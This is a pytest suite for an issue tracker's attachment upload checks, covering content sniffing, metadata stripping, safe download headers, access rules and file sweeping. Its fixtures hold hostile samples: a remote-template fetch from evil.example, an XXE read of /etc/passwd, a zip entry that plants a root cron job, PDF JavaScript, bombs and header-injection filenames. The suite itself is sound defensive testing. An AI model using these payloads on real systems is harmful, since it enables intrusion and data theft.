"""Files beside a comment: known by what is in them, kept under no name, handed out as files and only to readers."""

import io
import os
import time
import zipfile
import zlib
from datetime import timedelta

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from PIL import Image

from issues.log import actions as log
from issues.log.models import IssueAccess
from issues.models import Attachment, Comment
from issues.talk import actions, kinds, store
from issues.talk.tasks import sweep_files
from tests import factories as f
from tests.safety.probes import assert_harmless

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE" + b"!$H+H*"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="zqx()"><script>zqx()</script></svg>'
PAGE = b"<!doctype html><b id=zqx>hi</b><script>zqx=1</script>"
TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def picture(kind="PNG", size=(40, 30), **more):
    out = io.BytesIO()
    Image.new("RGB", size, (120, 40, 40)).save(out, kind, **more)
    return out.getvalue()


def photo():
    """As a phone makes it: lying on its side, with the place where it was taken."""
    exif = Image.Exif()
    exif[0x0110] = "zqx phone"
    exif[0x0112] = 6
    exif.get_ifd(0x8825)[1] = "N"
    return picture("JPEG", (60, 20), exif=exif, comment=b"zqx taken at home", icc_profile=b"zqx profile")


def pdf(inside=b"<</Type/Catalog/Pages 2 0 R>>", stream=None, end=b"%%EOF\n"):
    parts = [b"%PDF-1.7\n1 0 obj\n", inside, b"\nendobj\n"]
    if stream is not None:
        parts += [b"3 0 obj\n<</Filter/FlateDecode>>\nstream\n", stream, b"\nendstream\nendobj\n"]
    return b"".join([*parts, b"trailer<</Root 1 0 R>>\nstartxref\n0\n", end])


def docx(extra=(), document=b"<w:document xmlns:w='w'>Words</w:document>"):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr("word/document.xml", document)
        for name, content in extra:
            archive.writestr(name, content)
    return out.getvalue()


def xlsx():
    book, out = openpyxl.Workbook(), io.BytesIO()
    book.active.append(["Letters", 3])
    book.save(out)
    return out.getvalue()


def tie(kind, target, mode="External"):
    return (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{REL}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    ).encode()


def bomb_png():
    """A few hundred bytes that say they are a picture of 30,000 by 30,000 dots."""

    def chunk(name, data):
        return len(data).to_bytes(4) + name + data + zlib.crc32(name + data).to_bytes(4)

    head = (30_000).to_bytes(4) * 2 + bytes([8, 2, 0, 0, 0])
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b"")
    )


def lying_zip():
    """A document whose list of parts says that one is small."""
    data = bytearray(docx([("word/media/a.txt", bytes(60_000_000))]))
    at = data.rfind(b"PK\x01\x02")
    data[at + 24 : at + 28] = (10).to_bytes(4, "little")
    return bytes(data)


REFUSED = {
    "page.html": (PAGE, "unknown"),
    "page.csv": (PAGE, "unknown"),
    "picture.svg": (SVG, "unknown"),
    "photo.png": (b"\x89PNG\r\n\x1a\n" + PAGE, "damaged"),
    "cut-short.png": (picture()[:60], "damaged"),
    "bomb.png": (bomb_png(), "picture_too_big"),
    "gif-and-script.csv": (b"GIF89a/*" + bytes(40) + b"*/=zqx()", "unknown"),
    "program.exe": (b"MZ\x90\x00" + bytes(300), "unknown"),
    "program.csv": (b"\x7fELF" + bytes(300), "unknown"),
    "runs.pdf": (pdf(b"<</OpenAction<</S/JavaScript/JS(zqx())>>>>"), "runs"),
    "runs-in-numbers.pdf": (pdf(b"<</OpenAction<</S/J#61vaScript/J#53(zqx())>>>>"), "runs"),
    "runs-packed.pdf": (pdf(stream=zlib.compress(b"<</S/Launch/F(zqx.exe)>>")), "runs"),
    "carries.pdf": (pdf(b"<</Names<</EmbeddedFiles 9 0 R>>>>"), "runs"),
    "locked.pdf": (pdf(b"<</Encrypt 5 0 R>>"), "password"),
    "cut-short.pdf": (pdf(end=b""), "damaged"),
    "bomb.pdf": (pdf(stream=zlib.compress(b"<<" + bytes(60_000_000))), "unpacks_too_big"),
    "eicar.com": (EICAR, "unsafe"),
    "eicar.txt": (b"Before " + EICAR, "unsafe"),
    "eicar.docx": (docx([("word/a.txt", EICAR)]), "unsafe"),
    "eicar.pdf": (pdf(stream=zlib.compress(EICAR)), "unsafe"),
    "bomb.docx": (docx([("word/media/a.txt", bytes(60_000_000))]), "unpacks_too_big"),
    "lying.docx": (lying_zip(), "damaged"),
    "macros.docx": (docx([("word/vbaProject.bin", b"zqx")]), "runs"),
    "fetches.docx": (
        docx([("word/_rels/settings.xml.rels", tie("attachedTemplate", "http://evil.example/x"))]),
        "fetches",
    ),
    "entities.docx": (docx(document=b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'), "unsafe"),
    "out-of-the-box.docx": (docx([("../../etc/cron.d/zqx", b"* * * * * root zqx")]), "unsafe"),
    "only-a-zip.docx": (b"PK\x03\x04" + bytes(200), "damaged"),
    "nothing.txt": (b"", "empty"),
    "nul.csv": (b"Issue,Status\na\x00b,open\n", "unknown"),
    "no-letters.txt": (b"\x81\x8d\xff", "unknown"),
    "huge.txt": (b"a" * (kinds.LARGEST + 1), "too_big"),
}
KEPT = {
    "letter.pdf": (pdf(stream=zlib.compress(b"BT (Hello) Tj ET")), "pdf", "application/pdf"),
    "shot.png": (picture(), "png", "image/png"),
    "photo.jpeg": (photo(), "jpg", "image/jpeg"),
    "new.webp": (picture("WEBP"), "webp", "image/webp"),
    "notes.txt": ("Llŷr said “5 < 6 & 7” 🙂".encode(), "txt", "text/plain; charset=utf-8"),
    "table.csv": (b"Issue,Status\nLetters,open\n", "csv", "text/csv; charset=utf-8"),
    "log.xlsx": (xlsx(), "xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    "plan.docx": (
        docx([("word/_rels/document.xml.rels", tie("hyperlink", "https://example.org"))]),
        "docx",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
}


@pytest.fixture
def issue(here):
    return f.IssueFactory(cycle=here.cycle, raised_by=here.worker)


@pytest.fixture
def send(client, here, issue):
    client.raise_request_exception = False
    client.force_login(here.worker)

    def act(name, content, kind="text/html"):
        file = SimpleUploadedFile("given", content, content_type=kind)
        file._name = name  # as a client of one's own would send it: Django's cleans what it is told
        return client.post(reverse("issues:talk", args=[issue.ref]), {"words": "See this", "beside": file})

    return act


def lying(settings):
    return [path for path in settings.MEDIA_ROOT.rglob("*") if path.is_file()] if settings.MEDIA_ROOT.exists() else []


def address(file):
    return reverse("issues:attachment", args=[file.comment.issue.ref, file.key])


@pytest.mark.parametrize("name", REFUSED)
def test_a_nasty_file_is_refused_in_words_and_kept_nowhere(send, settings, name):
    content, why = REFUSED[name]
    response = send(name, content)
    assert response.status_code == 422
    page = response.content.decode()
    assert kinds.WORDS[why].replace("’", "&#x27;") in page or kinds.WORDS[why] in page, name
    assert "See this" in page, "the words that came with it are kept"
    assert_harmless(response, name)
    assert not Comment.objects.exists()
    assert lying(settings) == []


@pytest.mark.parametrize("name", KEPT)
def test_a_good_file_is_known_by_what_is_in_it_and_comes_back_as_a_file(send, client, settings, name):
    """Positive control: whatever the browser calls it. Pictures are drawn anew, all else is as it was sent."""
    content, kind, mime = KEPT[name]
    assert send(name, content).status_code == 302
    file = Attachment.objects.get()
    assert file.kind == kind
    assert file.name == f"{name.rpartition('.')[0]}.{kind}"
    (path,) = lying(settings)
    assert name.split(".")[0] not in str(path.relative_to(settings.MEDIA_ROOT)), "a name on disk says nothing"
    answer = client.get(address(file))
    body = b"".join(answer.streaming_content)
    assert answer["Content-Type"] == mime
    assert answer["Content-Disposition"].startswith("attachment;")
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer["Content-Security-Policy"] == "sandbox; default-src 'none'"
    assert "no-store" in answer["Cache-Control"]
    if kind not in ("png", "jpg", "webp"):
        assert body == content
    assert len(body) == file.size


def test_a_photo_loses_where_and_with_what_it_was_taken_and_stands_upright(send, client):
    assert b"zqx" in photo(), "the control: it does say so before"
    send("photo.jpg", photo())
    body = b"".join(client.get(address(Attachment.objects.get())).streaming_content)
    assert b"zqx" not in body
    assert b"Exif" not in body
    with Image.open(io.BytesIO(body)) as kept:
        assert kept.size == (20, 60)
        assert not kept.getexif()
        assert not {"exif", "comment", "icc_profile"} & set(kept.info)


def test_what_is_hidden_behind_a_picture_is_left_behind(send, client):
    send("shot.png", picture() + b"PK\x03\x04zqx hidden archive")
    assert b"zqx" not in b"".join(client.get(address(Attachment.objects.get())).streaming_content)


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("../../../../etc/passwd", "passwd.txt"),
        ("<b id=zqx>.txt", "b id=zqx.txt"),
        ('a".txt', "a.txt"),
        ("a\r\nSet-Cookie: zqx=1.txt", "a.txt"),
        ("x" * 300 + ".txt", "x" * 80 + ".txt"),
        ("letter.pdf.exe", "letter.pdf.txt"),
        ("\u202egnp.exe", "gnp.txt"),
        ("....", "file.txt"),
    ],
)
def test_a_nasty_name_is_only_ever_a_name(send, client, name, shown):
    assert send(name, b"Words").status_code == 302
    file = Attachment.objects.get()
    assert file.name == shown
    answer = client.get(address(file))
    b"".join(answer.streaming_content)
    assert "zqx" not in answer.cookies
    assert_harmless(client.get(file.comment.issue.get_absolute_url()), name)


def test_more_files_than_may_be_are_refused_together(client, here, issue, settings):
    client.force_login(here.worker)
    files = [SimpleUploadedFile(f"{n}.txt", b"Words") for n in range(4)]
    page = client.post(reverse("issues:talk", args=[issue.ref]), {"words": "See these", "beside": files})
    assert page.status_code == 422
    files = [SimpleUploadedFile("a.txt", b"Words"), SimpleUploadedFile("b.txt", EICAR)]
    page = client.post(reverse("issues:talk", args=[issue.ref]), {"words": "See these", "beside": files})
    assert page.status_code == 422
    assert lying(settings) == [], "one that is refused takes the others with it"


def test_one_person_sends_so_many_files_in_so_long(client, here, issue):
    client.force_login(here.worker)

    def three():
        files = [SimpleUploadedFile(f"{n}.txt", b"Words") for n in range(3)]
        return client.post(reverse("issues:talk", args=[issue.ref]), {"words": "More", "beside": files})

    answers = [three() for _ in range(11)]
    assert [answer.status_code for answer in answers] == [302] * 10 + [429]
    assert answers[-1]["Retry-After"] == "600"
    assert Attachment.objects.count() == 30


# ---------------------------------------------------------------- reach


def test_a_file_is_fetched_by_readers_of_its_issue_alone(client, here, elsewhere, issue, send):
    send("notes.txt", b"Words")
    url = address(Attachment.objects.get())
    told = {}
    for name in ("worker", "colleague", "steward", "leader", "helper", "admin"):
        client.force_login(getattr(here, name))
        answer = client.get(url)
        told[name] = answer.status_code
        if answer.status_code == 200:
            b"".join(answer.streaming_content)
    assert told == {"worker": 200, "colleague": 200, "steward": 200, "leader": 404, "helper": 404, "admin": 404}
    client.force_login(elsewhere.worker)
    assert client.get(url).status_code == 404
    client.logout()
    assert client.get(url).status_code == 302


def test_a_file_goes_with_the_sight_of_its_issue_at_once(client, here, issue, send):
    log.escalate(issue=issue, to_team=here.leadership, why="Policy", asks="", by=here.worker)
    send("notes.txt", b"Words")
    url = address(Attachment.objects.get())
    client.force_login(here.leader)
    answer = client.get(url)
    assert (answer.status_code, b"".join(answer.streaming_content)) == (200, b"Words"), "the control"
    IssueAccess.objects.filter(issue=issue, team=here.leadership).delete()
    assert client.get(url).status_code == 404


def test_a_file_does_not_open_under_the_address_of_another_issue(client, here, issue, send):
    send("notes.txt", b"Words")
    other = f.IssueFactory(cycle=here.cycle, raised_by=here.worker)
    file = Attachment.objects.get()
    assert client.get(reverse("issues:attachment", args=[other.ref, file.key])).status_code == 404


def test_taking_words_back_takes_their_files_at_once(
    client, here, issue, send, settings, django_capture_on_commit_callbacks
):
    send("notes.txt", b"Words")
    file = Attachment.objects.get()
    url = address(file)
    with django_capture_on_commit_callbacks(execute=True):
        actions.take_back(comment=file.comment, by=here.worker)
    assert client.get(url).status_code == 404
    assert lying(settings) == []


def test_no_address_leads_to_the_folder(client, send, settings):
    send("notes.txt", b"Words")
    path = Attachment.objects.get().path
    for address in (f"/media/{path}", f"/static/{path}", f"/{path}"):
        assert client.get(address).status_code == 404


def test_files_that_no_row_knows_are_swept_and_the_others_stay(send, settings):
    send("notes.txt", b"Words")
    kept = Attachment.objects.get().path
    orphan, fresh = store.keep(b"left behind"), store.keep(b"being written")
    old = time.time() - timedelta(hours=2).total_seconds()
    for path in (kept, orphan):
        os.utime(settings.MEDIA_ROOT / path, (old, old))
    sweep_files()
    assert sorted(str(path.relative_to(settings.MEDIA_ROOT)) for path in lying(settings)) == sorted([kept, fresh])
    assert store.sweep(timezone.now()) == 0


def test_sweeping_an_empty_house_is_quiet(db):
    assert store.sweep(timezone.now()) == 0


@pytest.mark.parametrize(
    "content",
    [b"%PDF-1.4\n" + b"stream\n" * 300_000 + b"%%EOF", b"%PDF-1.4\n" + b"stream\nendstream\n" * 200_000 + b"%%EOF"],
)
def test_a_file_made_to_be_slow_is_not(content):
    began = time.thread_time()
    with pytest.raises(kinds.NotKept):
        kinds._known(content, "slow.pdf")
    assert time.thread_time() - began < 5
